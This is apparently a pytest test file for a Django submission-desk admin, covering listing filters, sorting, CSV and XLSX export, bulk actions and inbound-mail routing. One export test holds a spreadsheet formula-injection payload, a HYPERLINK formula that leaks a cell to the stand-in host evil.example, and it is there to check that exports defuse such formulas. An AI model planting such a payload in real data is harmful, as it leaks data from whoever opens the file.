"""The queue and inbound-mail listings: filters, search, sorting, export, bulk actions, routing."""

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import Group, Permission, User
from django.contrib.staticfiles import finders
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from milepost.core.models import OutgoingEmail, OutgoingEmailStatus
from milepost.intake.models import InboundMessage
from milepost.intake.services import inbound_message_receive
from milepost.submissions.models import EventAction, Submission
from milepost.submissions.services import (
    SubmissionDraft,
    submission_create,
    submission_vote_cast,
)
from tests.desk.pages import messages_shown
from tests.intake.mail import story_email

pytestmark = pytest.mark.django_db


def _web(callout, title, words=10, **fields):
    return submission_create(
        SubmissionDraft(
            callout=callout,
            channel="web",
            title=title,
            story_text=" ".join(["mile"] * words),
            submitter_email=f"{title.split()[0].lower()}@example.com",
            **fields,
        )
    )


def _titles(client, query=""):
    html = client.get(f"/admin/submissions/{query}").content.decode()
    return {t for t in ("Long one", "Short one", "Back on Pine Street") if t in html}


def test_filters_and_search(editor_client, submission):
    callout = submission.callout
    _web(callout, "Long one", words=400, submitter_name="Olga Long")
    _web(callout, "Short one", words=20)
    assert _titles(editor_client) == {"Long one", "Short one", "Back on Pine Street"}
    assert _titles(editor_client, "?over_word_limit=true") == {"Long one"}
    assert _titles(editor_client, "?has_photo=true") == {"Back on Pine Street"}
    assert _titles(editor_client, "?channel=import") == {"Back on Pine Street"}
    assert _titles(editor_client, "?checks__code=missing_photo") == {"Long one", "Short one"}
    assert _titles(editor_client, "?q=olga") == {"Long one"}
    today = timezone.localdate()
    later = (today + timedelta(days=2)).isoformat()
    assert _titles(editor_client, f"?received_at_from={later}") == set()
    assert len(_titles(editor_client, f"?received_at_from={today.isoformat()}")) == 3


def test_filters_after_the_deadline_and_over_the_limit_per_address(editor_client, submission):
    callout = submission.callout
    callout.closes_at = timezone.now() - timedelta(minutes=1)
    callout.submissions_per_address = 1
    callout.save()
    _web(callout, "Long one", words=40)  # after the deadline
    _web(callout, "Short one")  # after the deadline
    # On time, but the second story from short@example.com: flagged, not late.
    _web(callout, "Short two", received_at=callout.closes_at - timedelta(hours=1))

    def shown(query):
        html = editor_client.get(f"/admin/submissions/{query}").content.decode()
        titles = ("Long one", "Short one", "Short two", "Back on Pine Street")
        return {title for title in titles if title in html}

    assert shown("?arrived_late=true") == {"Long one", "Short one"}
    assert shown("?arrived_late=false") == {"Short two", "Back on Pine Street"}
    assert shown("?over_address_limit=true") == {"Short two"}
    assert shown("?over_address_limit=false") == {"Long one", "Short one", "Back on Pine Street"}
    html = editor_client.get("/admin/submissions/").content.decode()
    assert html.count(">After the deadline</span>") == 2
    assert html.count(">Over the limit per address</span>") == 1


def test_sorting_by_vote_tally(editor_client, editor, reviewer, submission):
    short = _web(submission.callout, "Short one")
    submission_vote_cast(short, reviewer=editor, choice="yes")
    submission_vote_cast(short, reviewer=reviewer, choice="yes")
    submission_vote_cast(submission, reviewer=editor, choice="no")
    html = editor_client.get("/admin/submissions/?ordering=-vote_tally").content.decode()
    assert html.index("Short one") < html.index("Back on Pine Street")
    assert "2 yes · 0 maybe · 0 no" in html
    html = editor_client.get("/admin/submissions/?ordering=vote_tally").content.decode()
    assert html.index("Back on Pine Street") < html.index("Short one")


def test_export_of_the_current_filter_as_csv_and_xlsx(editor_client, submission):
    _web(submission.callout, "Long one", words=400)
    response = editor_client.get("/admin/submissions/?over_word_limit=true&export=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["Title"] for row in rows] == ["Long one"]
    assert rows[0]["Word count"] == "400"
    response = editor_client.get("/admin/submissions/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    titles = [row[7] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(titles) == ["Back on Pine Street", "Long one"]


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&G2,"Open")'


def test_a_reviewer_exports_formulas_as_text(reviewer_client, callout):
    """A submitter's name or title that a spreadsheet would run shows as the text it is."""
    _web(callout, "+1+1 miles", submitter_name=HYPERLINK)
    _web(callout, "@SUM(A1) and more", submitter_name="-2+3")
    response = reviewer_client.get("/admin/submissions/?export=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = {(row["Submitter name"], row["Title"]) for row in rows}
    assert cells == {("'" + HYPERLINK, "'+1+1 miles"), ("'-2+3", "'@SUM(A1) and more")}

    # XLSX cells are typed as text: the very words, never a formula.
    response = reviewer_client.get("/admin/submissions/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    names = {row[5].value: row[5].data_type for row in sheet.iter_rows(min_row=2)}
    assert names == {HYPERLINK: "s", "-2+3": "s"}


def test_bulk_assign_change_status_and_decline(
    editor_client, editor, submission, django_capture_on_commit_callbacks
):
    other = _web(submission.callout, "Short one")
    ids = f"id={submission.pk}&id={other.pk}"
    base = "/admin/bulk/submissions/submission"
    response = editor_client.post(f"{base}/assign/?{ids}", {"assignee": editor.pk})
    assert response.status_code == 302
    assert set(Submission.objects.values_list("assignee", flat=True)) == {editor.pk}
    editor_client.post(f"{base}/change_status/?id={other.pk}", {"status": "in_review"})
    other.refresh_from_db()
    assert other.status == "in_review"
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        editor_client.post(f"{base}/decline/?{ids}", {})
    assert set(Submission.objects.values_list("status", flat=True)) == {"declined"}
    assert sorted(m.to[0] for m in mail.outbox) == ["jane@example.com", "short@example.com"]
    assert all(m.subject.startswith("About your story") for m in mail.outbox)


def test_bulk_actions_say_what_became_of_the_submissions(editor_client, editor, submission):
    other = _web(submission.callout, "Short one")
    both = f"id={submission.pk}&id={other.pk}"

    def post(action, ids, data):
        url = f"/admin/bulk/submissions/submission/{action}/?next=/admin/submissions/&{ids}"
        return messages_shown(editor_client.post(url, data, follow=True))

    assert post("assign", both, {"assignee": editor.pk}) == ["2 submissions assigned to edna."]
    assert post("assign", both, {"assignee": ""}) == ["2 submissions assigned to nobody."]
    assert post("change_status", f"id={other.pk}", {"status": "in_review"}) == [
        "1 submission put in review."
    ]
    assert post("change_status", both, {"status": "spam"}) == ["2 submissions marked as spam."]
    assert post("change_status", both, {"status": "received"}) == [
        "2 submissions moved back to received."
    ]
    assert post("decline", both, {}) == ["2 submissions declined; their emails are queued."]


@pytest.mark.parametrize(
    ("action", "field"),
    [("assign", '<select name="assignee"'), ("change_status", '<select name="status"')],
)
def test_a_bulk_action_shows_what_it_asks_for(editor_client, submission, action, field):
    page = editor_client.get(f"/admin/bulk/submissions/submission/{action}/?id={submission.pk}")
    assert page.status_code == 200
    assert field in page.content.decode()


def test_bulk_assign_offers_whoever_may_review_every_selected_submission(
    editor_client, reviewer, submission
):
    readers = Group.objects.create(name="Section readers")
    readers.permissions.add(Permission.objects.get(codename="decide_submission"))
    User.objects.create_user("sam").groups.add(readers)
    Group.objects.get(name="Reviewers").permissions.clear()
    other = _web(submission.callout, "Short one")
    url = f"/admin/bulk/submissions/submission/assign/?id={submission.pk}&id={other.pk}"
    page = BeautifulSoup(editor_client.get(url).content, "html.parser")
    offered = {o.get_text(strip=True) for o in page.select('select[name="assignee"] option')}
    assert offered == {"Nobody", "edna", "sam"}
    assert editor_client.post(url, {"assignee": reviewer.pk}).status_code == 200
    assert not Submission.objects.filter(assignee__isnull=False).exists()


def test_reviewers_cannot_use_bulk_actions(reviewer_client, submission):
    base = "/admin/bulk/submissions/submission"
    reviewer_client.post(f"{base}/change_status/?id={submission.pk}", {"status": "declined"})
    submission.refresh_from_db()
    assert submission.status == "received"


def test_listing_queries_do_not_grow_with_rows(editor_client, editor, story_index):
    callout = story_index.callout

    def queries(rows):
        Submission.objects.all().delete()
        for number in range(rows):
            made = _web(callout, f"Story {number}")
            submission_vote_cast(made, reviewer=editor, choice="yes")
        editor_client.get("/admin/submissions/")  # a first request fills per-process caches
        with CaptureQueriesContext(connection) as captured:
            assert editor_client.get("/admin/submissions/").status_code == 200
        return len(captured)

    assert queries(5) == queries(25)


def test_submission_page_queries_do_not_grow(editor_client, editor, submission):
    from milepost.submissions.services import submission_note_add, submission_vote_cast

    def queries():
        url = f"/admin/submissions/inspect/{submission.pk}/"
        editor_client.get(url)  # a first request fills per-process caches
        with CaptureQueriesContext(connection) as captured:
            assert editor_client.get(url).status_code == 200
        return len(captured)

    few = queries()
    for number in range(10):
        submission_note_add(submission, author=editor, text=f"note {number}")
    submission_vote_cast(submission, reviewer=editor, choice="yes")
    assert queries() == few


def test_unrouted_mail_is_routed_to_a_callout_and_acknowledged(
    editor_client, story_index, django_capture_on_commit_callbacks
):
    inbound_message_receive(story_email(subject="A question about miles"), channel="import")
    message = InboundMessage.objects.get()
    listing = editor_client.get("/admin/inbound_messages/").content.decode()
    assert "A question about miles" in listing and "Route to callout…" in listing
    assert editor_client.get(f"/admin/inbound_messages/route/{message.pk}/").status_code == 200
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(
            f"/admin/inbound_messages/route/{message.pk}/", {"callout": story_index.callout.pk}
        )
    submission = Submission.objects.get()
    assert response["Location"] == f"/admin/submissions/inspect/{submission.pk}/"
    assert submission.callout == story_index.callout
    assert submission.events.get(action=EventAction.ROUTED).actor_label == "edna"
    [ack] = mail.outbox
    assert ack.to == ["jane@example.com"]
    assert (
        "A question about miles"
        not in editor_client.get("/admin/inbound_messages/").content.decode()
    )


def test_retry_processes_a_failed_message_again(editor_client, story_index):
    inbound_message_receive(story_email(), channel="import")
    message = InboundMessage.objects.get()
    Submission.objects.all().delete()
    InboundMessage.objects.filter(pk=message.pk).update(state="failed", error="boom")
    assert editor_client.get(f"/admin/inbound_messages/retry/{message.pk}/").status_code == 200
    editor_client.post(f"/admin/inbound_messages/retry/{message.pk}/")
    message.refresh_from_db()
    assert message.state == "processed" and Submission.objects.count() == 1


def test_reviewers_cannot_route_mail(reviewer_client, story_index):
    inbound_message_receive(story_email(subject="Hello"), channel="import")
    message = InboundMessage.objects.get()
    response = reviewer_client.post(
        f"/admin/inbound_messages/route/{message.pk}/", {"callout": story_index.callout.pk}
    )
    assert response.status_code == 403
    assert not Submission.objects.exists()


def test_editors_see_outgoing_mail_and_why_one_failed(editor_client, submission):
    failed = OutgoingEmail.objects.create(
        to="jane@example.com",
        subject="Your story is live",
        body="…",
        status=OutgoingEmailStatus.FAILED,
        attempts=8,
        reason="SMTPRecipientsRefused: 550 mailbox unavailable",
    )
    listing = editor_client.get("/admin/outgoing_mail/?status=failed").content.decode()
    assert "Your story is live" in listing and "550 mailbox unavailable" in listing
    inspect = editor_client.get(f"/admin/outgoing_mail/inspect/{failed.pk}/")
    assert inspect.status_code == 200 and "550 mailbox unavailable" in inspect.content.decode()
    # What was sent is a record: nobody edits or deletes it.
    assert editor_client.get(f"/admin/outgoing_mail/edit/{failed.pk}/").status_code == 302
    assert editor_client.get(f"/admin/outgoing_mail/delete/{failed.pk}/").status_code == 302


def test_the_menu_names_inbound_messages_as_their_page_does(editor_client):
    html = editor_client.get("/admin/inbound_messages/").content.decode()
    assert "Inbound mail" not in html
    heading = BeautifulSoup(html, "html.parser").find("h1").get_text(strip=True)
    assert heading == "Inbound messages" and '"label": "Inbound messages"' in html


def test_the_queue_breaks_long_titles_between_words_not_inside_them(editor_client, submission):
    html = editor_client.get("/admin/submissions/").content.decode()
    [href] = re.findall(r'href="(/static/css/desk[^"]*\.css)"', html)
    rules = Path(finders.find(href.removeprefix("/static/"))).read_text()
    title_rule = re.search(r"\.listing \.title \{([^}]*)\}", rules).group(1)
    assert "word-break: normal" in title_rule and "overflow-wrap: break-word" in title_rule
